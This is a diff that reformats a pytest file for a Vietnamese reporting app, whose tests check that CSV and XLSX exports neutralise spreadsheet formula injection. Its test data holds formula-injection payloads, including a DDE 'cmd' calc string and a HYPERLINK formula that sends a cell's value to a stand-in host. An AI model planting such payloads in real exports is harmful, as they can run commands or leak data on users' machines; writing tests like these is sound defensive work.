@@ -29,8 +29,16 @@ PERIOD = "2023-09"  # not used by the world's other data
 # number ("10", triệu đồng) and a value typed as a formula on another number ("9.1")
 CODES = ["1.1", "1.2", "2.1", "2.2", "2.3", "2.4", "3.1", "3.2", "4.1", "4.2", "5", "6.1", "6.2", "6.3", "7", "8.1"]
 NUMBER, TYPED = "10", "9.1"
-ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\ndòng 2, có phẩy"]
+ATTACKS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\ndòng 2, có phẩy",
+]
 SAFE = ["-5", "+1,5", "-12.5%", "Ghi chú bình thường", " =khoảng trắng trước", "'=đã có nháy", "−5", ""]
 
 
@@ -42,25 +50,77 @@ def noted(world):
     unit = world["units"][NGUYEN_LY]
     made = []
     for k, text in enumerate(ATTACKS + SAFE):
-        made.append(Observation.objects.create(
-            unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=CODES[k], assessment=k % 2 == 0,
-            note=text, evidence=text if k < 3 else "", created_by_name=text if k == 1 else "Cán bộ xã",
-            source="import"))  # source, batch, codes and unit names are set by the system, never typed
+        made.append(
+            Observation.objects.create(
+                unit=unit,
+                set_code=SET,
+                period=PERIOD,
+                year=2023,
+                indicator=CODES[k],
+                assessment=k % 2 == 0,
+                note=text,
+                evidence=text if k < 3 else "",
+                created_by_name=text if k == 1 else "Cán bộ xã",
+                source="import",
+            )
+        )  # source, batch, codes and unit names are set by the system, never typed
     # a number typed with a sign stays the number; a text value that is a formula does not
-    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=NUMBER,
-                                           value_text="-5", value_num=-5.0, assessment=False))
-    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=TYPED,
-                                           value_text="=1+1", assessment=True, note="=2+2", version=1, is_current=False))
-    made.append(Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator=TYPED,
-                                           value_text="-1+A1", assessment=True, note="@A1", version=2))
+    made.append(
+        Observation.objects.create(
+            unit=unit,
+            set_code=SET,
+            period=PERIOD,
+            year=2023,
+            indicator=NUMBER,
+            value_text="-5",
+            value_num=-5.0,
+            assessment=False,
+        )
+    )
+    made.append(
+        Observation.objects.create(
+            unit=unit,
+            set_code=SET,
+            period=PERIOD,
+            year=2023,
+            indicator=TYPED,
+            value_text="=1+1",
+            assessment=True,
+            note="=2+2",
+            version=1,
+            is_current=False,
+        )
+    )
+    made.append(
+        Observation.objects.create(
+            unit=unit,
+            set_code=SET,
+            period=PERIOD,
+            year=2023,
+            indicator=TYPED,
+            value_text="-1+A1",
+            assessment=True,
+            note="@A1",
+            version=2,
+        )
+    )
     return made
 
 
 def _download(world, what: str, fmt: str, history: bool = False):
     c = Client()
     c.force_login(world["users"]["superuser"])
-    r = c.get("/bao-cao/trao-doi/xuat/", {"unit": NGUYEN_LY, "set": SET, "period": PERIOD, "what": what, "format": fmt,
-                                         **({"history": "1"} if history else {})})
+    r = c.get(
+        "/bao-cao/trao-doi/xuat/",
+        {
+            "unit": NGUYEN_LY,
+            "set": SET,
+            "period": PERIOD,
+            "what": what,
+            "format": fmt,
+            **({"history": "1"} if history else {}),
+        },
+    )
     assert r.status_code == 200, r.status_code
     return b"".join(r.streaming_content) if r.streaming else r.content
 
@@ -69,8 +129,9 @@ def _cells(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
 
 
-@pytest.mark.parametrize("what,history", [("observations", False), ("observations", True), ("dhis2", False),
-                                          ("dhis2", True)])
+@pytest.mark.parametrize(
+    "what,history", [("observations", False), ("observations", True), ("dhis2", False), ("dhis2", True)]
+)
 def test_no_csv_export_hands_a_spreadsheet_a_formula(world, noted, what, history):
     rows = _cells(_download(world, what, "csv", history))
     assert len(rows) > len(ATTACKS)
@@ -129,11 +190,19 @@ def test_the_bulletin_and_catalogue_workbooks_write_no_formula():
     from ntm.core.catalog import default_catalog
     from ntm.core.reports.model import Bar, Chart, Document, Paragraph, Table
 
-    doc = Document(kind="bulletin", issuer=["UBND HUYỆN X"], place="X", issued=dt.date(2023, 12, 1), title="BẢN TIN",
-                   subtitle='=HYPERLINK("http://example.invalid")',
-                   blocks=[Paragraph("=cmd|' /C calc'!A0"),
-                           Table(caption="=1+1", columns=["=A1", "Số"], rows=[["=SUM(1)", "12"]], note="=2+2"),
-                           Chart(title="=3+3", bars=[Bar(label="=4+4", value=3.0, text="3")], maximum=5.0, axis_label="=5+5")])
+    doc = Document(
+        kind="bulletin",
+        issuer=["UBND HUYỆN X"],
+        place="X",
+        issued=dt.date(2023, 12, 1),
+        title="BẢN TIN",
+        subtitle='=HYPERLINK("http://example.invalid")',
+        blocks=[
+            Paragraph("=cmd|' /C calc'!A0"),
+            Table(caption="=1+1", columns=["=A1", "Số"], rows=[["=SUM(1)", "12"]], note="=2+2"),
+            Chart(title="=3+3", bars=[Bar(label="=4+4", value=3.0, text="3")], maximum=5.0, axis_label="=5+5"),
+        ],
+    )
     for data in (to_xlsx(doc), export_set(default_catalog().get(SET))):
         with zipfile.ZipFile(io.BytesIO(data)) as z:
             for name in z.namelist():
@@ -152,8 +221,16 @@ def test_the_entry_template_keeps_a_note_as_text(world, big, monkeypatch):
     from ntm.core.periods import Period
 
     unit = world["units"][NGUYEN_LY]
-    Observation.objects.create(unit=unit, set_code=SET, period=PERIOD, year=2023, indicator="1.1", assessment=True,
-                               note='=HYPERLINK("http://example.invalid")', evidence="=cmd|' /C calc'!A0")
+    Observation.objects.create(
+        unit=unit,
+        set_code=SET,
+        period=PERIOD,
+        year=2023,
+        indicator="1.1",
+        assessment=True,
+        note='=HYPERLINK("http://example.invalid")',
+        evidence="=cmd|' /C calc'!A0",
+    )
     cs = default_catalog().get(SET)
     if big:  # the plain-row path of templates above 20,000 rows, without writing that many
         monkeypatch.setattr(cs.__class__, "indicator_count", property(lambda self: 10**6))
@@ -172,10 +249,11 @@ def test_the_rule_follows_owasp_and_keeps_signed_numbers():
         assert not is_formula_like(text) and neutralise(text) == text
 
 
-TEXTS = st.one_of(st.text(max_size=12), st.sampled_from(ATTACKS + SAFE + ["-", "+", "-1e5", "-1,2,3", "-5 ", "-0x1F",
-                                                                          "-5%", "+.5", "=", "@", "-٣"]),
-                  st.tuples(st.sampled_from(list("=+-@\t\r")), st.text(alphabet="0123456789.,%e+-xA ", max_size=6))
-                  .map("".join))
+TEXTS = st.one_of(
+    st.text(max_size=12),
+    st.sampled_from(ATTACKS + SAFE + ["-", "+", "-1e5", "-1,2,3", "-5 ", "-0x1F", "-5%", "+.5", "=", "@", "-٣"]),
+    st.tuples(st.sampled_from(list("=+-@\t\r")), st.text(alphabet="0123456789.,%e+-xA ", max_size=6)).map("".join),
+)
 
 
 @settings(max_examples=300, deadline=None, derandomize=True)
